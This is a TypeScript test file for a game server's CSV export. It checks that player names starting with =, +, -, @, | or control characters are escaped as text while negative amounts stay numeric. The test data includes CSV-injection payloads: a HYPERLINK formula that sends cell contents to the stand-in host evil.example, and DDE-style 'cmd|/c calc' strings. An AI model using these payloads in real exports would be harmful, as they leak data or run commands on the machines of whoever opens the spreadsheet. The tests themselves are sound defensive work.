/**
 * The results CSV opens in spreadsheets: a player name such as `=HYPERLINK(…)` must arrive as
 * text, never as a formula (OWASP "CSV injection"), while negative money stays a number.
 */
import { describe, expect, it } from 'vitest';
import type { GameResult } from '../../shared/protocol/results';
import { resultCsv } from '../../server/http/routes';
import { csvField } from '../../shared/protocol/csv';

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"prize")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""prize"")"`],
    ['=1+1', `"'=1+1"`],
    ['+cmd|/c calc', `"'+cmd|/c calc"`],
    ['-2+3', `"'-2+3"`],
    ['-cmd', `"'-cmd"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['|calc', `"'|calc"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['+1', `"'+1"`],
  ])('neutralises %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it.each([
    [-1250, '-1250'],
    [-12.5, '-12.5'],
    [-1e-7, '-1e-7'],
    ['-42', '-42'],
    [0, '0'],
    [3.25, '3.25'],
  ])('keeps the number %j as a number', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it('quotes separators and quotes as before, and leaves plain text alone', () => {
    expect(csvField('alice')).toBe('alice');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a = b')).toBe('a = b');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('neutralises a hostile name in a whole result and keeps negative money', () => {
    const team = {
      team: 'red',
      players: ['=HYPERLINK("http://x","y")'],
      money: -300,
      dau: 0,
      peakDau: 0,
      availability: 1,
      p95LatencyMs: 0,
      revenue: 0,
      spent: 300,
      requests: 0,
      failedRequests: 0,
      checklist: 0,
      gameOver: null,
    };
    const csv = resultCsv({ code: 'ABCDEF', mode: 'match', scenario: 'sandbox', seed: 1, endedTick: 10, teams: [team] } as GameResult);
    const row = csv.split('\r\n')[1] ?? '';
    expect(row).toContain(`,"'=HYPERLINK(""http://x"",""y"")",-300,`);
  });
});
